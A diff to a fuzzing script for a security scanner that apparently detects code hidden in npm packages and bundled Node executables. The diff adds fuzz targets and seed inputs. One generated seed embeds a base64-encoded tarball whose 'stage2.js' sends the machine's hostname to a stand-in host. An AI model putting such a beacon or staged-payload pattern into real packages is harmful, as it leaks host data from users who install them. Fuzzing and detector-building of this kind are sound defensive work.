@@ -1,5 +1,8 @@
 #!/usr/bin/env bash
-# Fuzz telltale with cargo fuzz (libFuzzer, no sanitizer: builds on stable Rust).
+# Fuzz telltale with cargo fuzz (libFuzzer, no sanitizer: builds on stable Rust). Targets:
+# the whole pipeline (scan_bytes), the JS front end (js), shell, lockfiles, and each reader of
+# what hides code: Node SEA blobs (sea), Bun module graphs (bun), pkg and nexe payloads,
+# Electron asar archives (asar), and containers inside packages (containers).
 #   bash scripts/fuzz.sh [SECONDS_PER_TARGET] [TARGET...]
 # Seeds come from the repository's fixtures and small real packages of ../shared/corpus
 # (read as bytes, never run). Crashes land in fuzz/artifacts/TARGET/; each one fixed is kept
@@ -10,7 +13,7 @@ cd "$(dirname "$0")/.."
 secs=${1:-600}
 shift || true
 targets=("$@")
-[ ${#targets[@]} -gt 0 ] || targets=(js scan_bytes shell lockfile)
+[ ${#targets[@]} -gt 0 ] || targets=(js scan_bytes shell lockfile sea bun pkg nexe asar containers)
 command -v cargo-fuzz >/dev/null || cargo install cargo-fuzz --locked
 seed() { # target file [pick-byte]
   local dir=fuzz/corpus/$1 f=$2 pick=${3:-}
@@ -36,6 +39,37 @@ seed shell /tmp/telltale-seed.sh
 seed scan_bytes /tmp/telltale-seed.sh 03
 head -c 60000 tests/fixtures/lockfiles/large/package-lock.json > /tmp/telltale-seed-lock.json
 seed lockfile /tmp/telltale-seed-lock.json 00
+for f in crates/telltale-ingest/tests/fixtures/executables/pkg-*; do seed pkg "$f"; done
+seed nexe crates/telltale-ingest/tests/fixtures/executables/nexe3
+# nexe 5's fixture is past -max_len: the same layout with a one-line launch code instead.
+python3 - crates/telltale-ingest/tests/fixtures/executables/nexe5 /tmp/telltale-seed-nexe5 <<'PY'
+import struct, sys
+d = open(sys.argv[1], 'rb').read()
+at = d.rindex(b"<nexe~~sentinel>")
+code, res = struct.unpack("<dd", d[at + 16:at + 32])
+zip_ = d[at - int(res):at]
+launch = b"!(function () {process.__nexe = {};})();;"
+open(sys.argv[2], 'wb').write(b"\x7fELF" + launch + zip_ + d[at:at + 16] + struct.pack("<dd", len(launch), len(zip_)))
+PY
+seed nexe /tmp/telltale-seed-nexe5
+seed asar crates/telltale-ingest/tests/fixtures/asar/app.asar
+for f in crates/telltale-ingest/tests/fixtures/executables/sea-*.elf; do seed sea "$f"; done
+for f in crates/telltale-ingest/tests/fixtures/executables/bun-*.elf; do seed bun "$f"; done
+# containers: the first byte names the file inside an npm tarball (0 an archive, 1 an
+# executable, 3 a script, 6 an asar): nested archives, runtime executables, base64 archives.
+for f in ../shared/corpus/samples/npm/{lodashs-1.0.2,electorn-1.0.1}.tgz; do seed containers "$f" 00; done
+for f in crates/telltale-ingest/tests/fixtures/executables/{sea-node24.22.3-assets-execargv-codecache.elf,bun-1.4.5-utf16.elf,pkg-gzip,nexe3}; do seed containers "$f" 01; done
+seed containers crates/telltale-ingest/tests/fixtures/asar/app.asar 06
+python3 - > /tmp/telltale-seed-b64.js <<'PY'
+import base64, gzip, io, tarfile
+buf = io.BytesIO()
+with tarfile.open(fileobj=buf, mode="w:gz") as tar:
+    data = b"require('https').get('https://t.example.top/?h=' + require('os').hostname())"
+    info = tarfile.TarInfo("package/stage2.js"); info.size = len(data)
+    tar.addfile(info, io.BytesIO(data))
+print('const blob = "' + base64.b64encode(buf.getvalue()).decode() + '";')
+PY
+seed containers /tmp/telltale-seed-b64.js 03
 (cd fuzz && cargo fuzz build -s none -O)
 for t in "${targets[@]}"; do
   mkdir -p "fuzz/artifacts/$t"
